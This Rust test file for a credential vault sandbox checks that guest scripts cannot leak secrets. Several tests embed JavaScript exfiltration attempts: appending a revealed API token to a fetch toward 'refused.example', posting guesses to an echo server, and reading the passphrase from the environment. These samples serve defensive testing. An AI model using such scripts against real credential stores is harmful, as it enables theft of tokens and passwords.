//! What a review found in credentials, one test each: none of it comes back.

use super::{VALUE, Vaulted, assert_clean, assert_clean_folder, ok};
use crate::support::server::Server;

#[test]
fn another_servers_echo_tells_no_guess_from_the_value() {
    let vaulted = Vaulted::new();
    let other = Server::start();
    let guesses = serde_json::json!(["wrong-guess-1", VALUE, "wrong-guess-2"]);
    let source = format!(
        "const r = await fetch('{}/echo', {{ method: 'POST', body: JSON.stringify({guesses}) }}); const t = await r.text(); return t.includes('redacted');",
        other.base()
    );
    let (record, ended) = vaulted.script(&source, "API_TOKEN", &[&format!("--allow-net={}", other.base())]);
    assert_eq!(record["output"]["json"], false, "{record}\n{ended}");
}

#[test]
fn state_tells_no_guess_from_the_value() {
    let vaulted = Vaulted::new();
    let source = format!("await state.set('guess', {});", serde_json::json!(VALUE));
    let (record, _) = vaulted.script(&source, "API_TOKEN", &["--state=64KiB"]);
    assert_eq!((&record["status"], &record["failure"]["kind"]), (&"failed".into(), &"denied".into()), "{record}");
    let (after, _) = vaulted.script("return await state.get('guess');", "API_TOKEN", &["--state=64KiB"]);
    assert_eq!(after["output"]["json"], serde_json::Value::Null, "nothing was kept: {after}");
    assert_clean_folder(&vaulted.home.path(), VALUE);
}

#[test]
fn state_without_values_is_still_within_its_quota() {
    let vaulted = Vaulted::empty();
    vaulted.add("SHORT_ONE", "abcdefgh", &[]);
    let source = "const v = credentials.reveal('SHORT_ONE'); await state.set('a', v.repeat(8000));";
    let (record, _) = vaulted.script(source, "SHORT_ONE:reveal", &["--state=64KiB"]);
    assert_eq!(record["failure"]["kind"], "denied", "{record}");
}

#[test]
fn a_long_address_is_in_no_refusal() {
    let vaulted = Vaulted::empty();
    let secret = format!("/services/{}", "Q7".repeat(150));
    ok(&vaulted.home.feed(&["credential", "add", "WEBHOOK", "--kind=url"], format!("{}{secret}", vaulted.base())));
    vaulted.home.file("hook.js", "await fetch(credentials.WEBHOOK);");
    let record = vaulted.home.record(&["hook.js", "--credential=WEBHOOK"]);
    assert_eq!(record.word("status"), "failed");
    for text in [record.json.to_string(), record.ended.stderr.clone()] {
        assert!(!text.contains(&"Q7".repeat(20)), "{text}");
    }
}

#[test]
fn a_revealed_value_in_a_refused_address_is_in_no_record() {
    let vaulted = Vaulted::new();
    for offset in [150, 165, 180, 190] {
        let source = format!(
            "await fetch('https://refused.example/' + 'x'.repeat({offset}) + encodeURIComponent(credentials.reveal('API_TOKEN')));"
        );
        let (record, ended) = vaulted.script(&source, "API_TOKEN:reveal", &[]);
        assert_eq!(record["status"], "failed");
        let shown = format!("{record}{}", ended.stderr);
        let half = crate::support::mirror::percent(VALUE);
        assert!(!shown.contains(&half[..12]), "{offset}: {shown}");
    }
}

#[test]
fn an_answer_that_is_packed_on_its_way_is_refused() {
    let vaulted = Vaulted::new();
    let source = "const r = await fetch('BASE/mirror/transfer-gzip', { headers: { Authorization: 'Bearer ' + credentials.API_TOKEN } }); return [...new Uint8Array(await r.arrayBuffer())];";
    let (record, _) = vaulted.script(source, "API_TOKEN", &[]);
    assert_eq!(record["status"], "failed", "{record}");
}

#[test]
fn a_header_binds_no_credential_that_is_for_no_host() {
    let vaulted = Vaulted::empty();
    ok(&vaulted.home.feed(&["credential", "add", "LOOSE"], "loose-value-0123"));
    let source = format!(
        "// /// wardroom\n// net = [\"{0}\"]\n// credentials = [\"LOOSE@{1}\"]\n// ///\nreturn (await fetch('{0}/echo', {{ headers: {{ a: credentials.LOOSE }} }})).status;",
        vaulted.base(),
        vaulted.host()
    );
    let (record, _) = vaulted.script(&source, "LOOSE", &[]);
    assert_eq!(record["status"], "failed", "{record}");
    assert!(vaulted.server.requests().is_empty());
}

#[test]
fn refusals_are_filed_under_their_own_credential_and_no_flood_hides_another() {
    let vaulted = Vaulted::new();
    vaulted.add("API_TOKEN_ADMIN", "admin-value-0123456", &[]);
    let source =
        "for (let i = 0; i < 300; i++) { try { credentials.sign('API_TOKEN', { hmac: { hash: 'sha256', message: 'x' } }); } catch {} }
        try { credentials.reveal('API_TOKEN_ADMIN'); } catch {} return 1;";
    let (record, _) = vaulted.script(source, "API_TOKEN", &["--credential=API_TOKEN_ADMIN"]);
    assert_eq!(record["status"], "success", "{record}");
    let of = |name: &str| {
        let subject = format!("--subject={name}");
        let listed = vaulted.home.read(&["audit", "list", "--event=credential-refused", &subject, "--limit=1000", "--json"]);
        listed["events"].as_array().unwrap().len()
    };
    assert_eq!((of("API_TOKEN"), of("API_TOKEN_ADMIN")), (10, 1));
}

#[test]
fn nobody_reads_the_vaults_passphrase_from_the_environment() {
    let vaulted = Vaulted::new();
    let program = crate::support::guests::command("env").display().to_string();
    let mut command = vaulted.home.command(&["run", &program, "--allow-env=WARDROOM_PASSPHRASE"]);
    command.env("WARDROOM_PASSPHRASE", "correct horse battery");
    let ended = crate::support::home::Running::start(&mut command, b"").wait();
    assert!(!ended.text().contains("correct horse"), "{ended}");
}

#[test]
fn a_log_whose_first_key_was_taken_away_does_not_pass() {
    let vaulted = Vaulted::new();
    if !crate::support::database::is_here() {
        return;
    }
    ok(&vaulted.home.run(&["audit", "verify"]));
    crate::support::database::edit(&vaulted.home.path(), "db.execute('UPDATE vault SET audit_root = NULL')");
    let verified = vaulted.home.run(&["audit", "verify"]);
    assert_eq!(verified.code, Some(1), "{verified}");
    assert_clean("the answer", verified.text().as_bytes(), VALUE);
}
